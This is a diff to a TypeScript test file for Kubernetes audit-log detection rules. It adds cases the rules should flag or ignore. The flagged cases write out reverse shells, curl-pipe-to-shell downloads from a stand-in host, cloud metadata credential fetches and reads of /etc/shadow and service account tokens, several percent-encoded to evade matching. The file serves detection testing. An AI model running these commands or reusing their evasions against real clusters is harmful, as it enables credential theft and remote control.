@@ -52,6 +52,21 @@ function exec(args: string[], extra: Partial<Parameters<typeof auditEvent>[0]> =
   });
 }
 
+/** An exec whose query the client encoded itself (each word a `command` parameter, as given). */
+function rawExec(commandParams: string[]): Json {
+  return auditEvent({
+    verb: 'create',
+    resource: 'pods',
+    subresource: 'exec',
+    namespace: 'shop',
+    name: 'api-7d9f-abcde',
+    query: commandParams
+      .map((c) => `command=${c}`)
+      .concat(['container=app', 'stdout=true'])
+      .join('&'),
+  });
+}
+
 const CASES: Case[] = [
   {
     rule: 'Unlisted User Activity',
@@ -976,6 +991,16 @@ const CASES: Case[] = [
         exec(['wget', '-qO-', 'http://169.254.169.254/latest/api/token'], { user: CONTROLLER }),
       'curl to IMDS': () =>
         exec(['curl', '-s', 'http://169.254.169.254/latest/meta-data/iam/security-credentials/']),
+      'through the kubelet /run endpoint (nodes/proxy run, cmd parameter)': () =>
+        auditEvent({
+          verb: 'create',
+          resource: 'nodes',
+          subresource: 'proxy',
+          name: 'n1',
+          uri: '/api/v1/nodes/n1/proxy/run/shop/api-1/app?cmd=curl+http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F',
+        }),
+      'the address with percent-encoded digits': () =>
+        rawExec(['curl', 'http%3A%2F%2F%31%36%39.254.169.254%2flatest%2fmeta-data%2f']),
       'GKE metadata via sh -c, websocket get': () =>
         exec(
           [
@@ -988,6 +1013,7 @@ const CASES: Case[] = [
     },
     misses: {
       'curl to a service': () => exec(['curl', '-s', 'http://orders.shop.svc:8080/health']),
+      'another link-local address': () => exec(['curl', '-s', 'http://169.254.1.1/']),
     },
   },
   {
@@ -1008,6 +1034,13 @@ const CASES: Case[] = [
             .concat(['stdout=1', 'stderr=1'])
             .join('&'),
         }),
+      'bash -i >& /dev/tcp/1.2.3.4/4444 0>&1 as one argument, letters percent-encoded': () =>
+        rawExec(['bash', '-c', 'bash+-i+%3E%26+%2fdev%2f%74cp%2f1.2.3.4%2F4444+0%3E%26%31']),
+      'nc by its path': () => exec(['/usr/bin/nc', '-e', '/bin/sh', '198.51.100.9', '4444']),
+      'nc -e inside sh -c, after its address': () =>
+        exec(['sh', '-c', 'nc 198.51.100.9 4444 -e /bin/sh']),
+      'socat with an upper-case EXEC address': () =>
+        exec(['socat', 'TCP:198.51.100.9:4444', 'EXEC:/bin/bash']),
       'python pty': () =>
         exec([
           'python3',
@@ -1018,6 +1051,8 @@ const CASES: Case[] = [
     misses: {
       'interactive bash': () => exec(['bash', '-i']),
       'nc port check': () => exec(['nc', '-zv', 'db.shop.svc', '5432']),
+      'socat port forward': () => exec(['socat', 'TCP-LISTEN:8080,fork', 'TCP:db.shop.svc:5432']),
+      'a file under /dev': () => exec(['ls', '-l', '/dev/tty']),
     },
   },
   {
@@ -1031,12 +1066,26 @@ const CASES: Case[] = [
           'curl -s http://localhost:8080/ready && curl -so /tmp/x https://evil.example/x',
         ]),
       'wget https': () => exec(['wget', '-q', 'https://evil.example/miner', '-O', '/tmp/m']),
+      'curl http://x | sh as one -c argument, %7C and lower-case %2f': () =>
+        rawExec(['sh', '-c', 'curl%20http%3a%2f%2fx%20%7C%20sh']),
+      'a local script piped into bash': () =>
+        exec(['sh', '-c', 'curl -s localhost:8080/install.sh | /bin/bash']),
+      'curl with a percent-encoded letter': () =>
+        rawExec(['sh', '-c', '%63url+-fsSL+https%3A%2F%2Fevil.example%2Fx.sh+%7c+sh']),
+      'curl inside $(...)': () =>
+        exec(['sh', '-c', 'echo "$(curl -fsSL https://evil.example/i.sh)" > /tmp/i']),
+      'a host that only starts like localhost': () =>
+        exec(['curl', '-s', 'http://localhost.evil.example/x']),
     },
     misses: {
       'curl localhost health': () => exec(['curl', '-s', 'http://localhost:8080/healthz']),
       'cat a file': () => exec(['cat', '/app/config.yaml']),
       'curl to the API server': () =>
         exec(['curl', '-sk', 'https://kubernetes.default.svc.cluster.local/version']),
+      'a quoted local URL': () => exec(['sh', '-c', 'curl -s "http://localhost"']),
+      'a local download piped into shasum': () =>
+        exec(['sh', '-c', 'curl -s http://127.0.0.1:8080/app.tgz | shasum']),
+      'https in a non-curl command': () => exec(['echo', 'https://evil.example/x']),
     },
   },
   {
@@ -1051,8 +1100,15 @@ const CASES: Case[] = [
         }),
       kubeconfig: () => exec(['sh', '-c', 'cat ~/.kube/config']),
       'process environment': () => exec(['cat', '/proc/1/environ']),
+      '/etc/shadow with lower-case %2f and an encoded letter': () =>
+        rawExec(['cat', '%2fetc%2f%73hadow']),
+      'a kubeconfig as one sh -c argument': () =>
+        exec(['sh', '-c', 'cat /etc/kubernetes/admin.conf | base64']),
     },
-    misses: { 'resolv.conf': () => exec(['cat', '/etc/resolv.conf']) },
+    misses: {
+      'resolv.conf': () => exec(['cat', '/etc/resolv.conf']),
+      'another /proc file': () => exec(['cat', '/proc/cpuinfo']),
+    },
   },
   {
     rule: 'First Exec By User Into Namespace',
@@ -1488,6 +1544,25 @@ describe('the table', () => {
       if (user)
         expect({ rule: c.rule, names: text.includes(user) }).toEqual({ rule: c.rule, names: true });
     }
+  });
+
+  it('exec outputs show the whole command, decoded', () => {
+    const event = exec(['sh', '-c', 'cat /var/run/secrets/kubernetes.io/serviceaccount/token']);
+    const outputs = ruleset
+      .evaluate({ event, cluster: 'prod' })
+      .filter((r) =>
+        [
+          'Exec Reads Credentials',
+          'Exec Or Attach Into Pod',
+          'First Exec By User Into Namespace',
+        ].includes(r.name),
+      )
+      .map((r) => r.output({ event, cluster: 'prod' }));
+    expect(outputs).toHaveLength(3);
+    for (const text of outputs)
+      expect(text).toContain(
+        'command=sh -c cat /var/run/secrets/kubernetes.io/serviceaccount/token ',
+      );
   });
 
   it('alice and the actors used here are not allow-listed or platform identities', () => {
